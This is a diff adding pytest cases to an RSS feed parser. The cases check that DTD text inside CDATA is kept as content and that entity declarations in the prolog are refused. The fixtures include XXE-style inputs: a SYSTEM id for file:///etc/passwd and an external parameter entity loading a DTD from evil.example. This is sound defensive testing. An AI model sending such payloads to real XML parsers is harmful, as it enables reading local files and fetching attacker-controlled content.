@@ -164,6 +164,52 @@ def test_public_doctype_is_tolerated():
     assert "removed the document type declaration" in parsed.warnings
 
 
+@pytest.mark.parametrize(
+    ("markup", "kept"),
+    [
+        ("<!DOCTYPE html><html><body><p>A whole page pasted in.</p></body></html>", "pasted"),
+        ('<p>Declare one with <code><!ENTITY x "y"></code> in a DTD.</p>', "Declare one"),
+        ("<!DOCTYPE note [<!ELEMENT note ANY>]><p>Old markup in an entry.</p>", "Old markup"),
+        ('<!DOCTYPE x SYSTEM "file:///etc/passwd"><p>A system id as text.</p>', "system id"),
+    ],
+)
+def test_declarations_inside_content_are_content(markup, kept):
+    """Issue #19: a <!DOCTYPE or <!ENTITY inside CDATA got the whole feed refused."""
+    content = rss(
+        f"<item><title>One</title><description><![CDATA[{markup}]]></description></item>"
+        "<item><title>Two</title><description>Plain.</description></item>"
+    )
+    parsed = parse_feed(content, FEED_URL)
+    assert [e.title for e in parsed.entries] == ["One", "Two"]
+    assert kept in parsed.entries[0].summary
+    assert parsed.warnings == []
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        '<!-- <rss> --><?xml-stylesheet href="s.xsl"?><!DOCTYPE rss [<!ENTITY a "b">]>',
+        "<!DOCTYPE rss [\n<!ENTITY % ext SYSTEM 'https://evil.example/x.dtd'> %ext;\n]>",
+        "<!doctype rss [<!ENTITY a 'b'>]>",
+    ],
+)
+def test_entity_declarations_in_the_prolog_are_still_refused(head):
+    with pytest.raises(FeedError) as info:
+        parse_feed(rss("<item><title>x</title></item>", head), FEED_URL)
+    assert info.value.code == "unsafe_xml"
+    assert "declares XML entities" in str(info.value)
+
+
+def test_a_doctype_after_the_root_element_starts_is_not_a_prolog_doctype():
+    """Defence in depth: defusedxml still refuses any DTD that reaches the parser."""
+    content = rss("<item><title>x</title></item>").replace(
+        b"<channel>", b'<channel><!DOCTYPE rss [<!ENTITY a "b">]>'
+    )
+    with pytest.raises(FeedError) as info:
+        parse_feed(content, FEED_URL)
+    assert info.value.code in ("invalid_xml", "unsafe_xml")
+
+
 def test_html_entities_and_control_characters():
     parsed = parse_feed(
         rss("<item><title>Caf&eacute;&nbsp;reopens\x0b &mdash; at last</title></item>"), FEED_URL
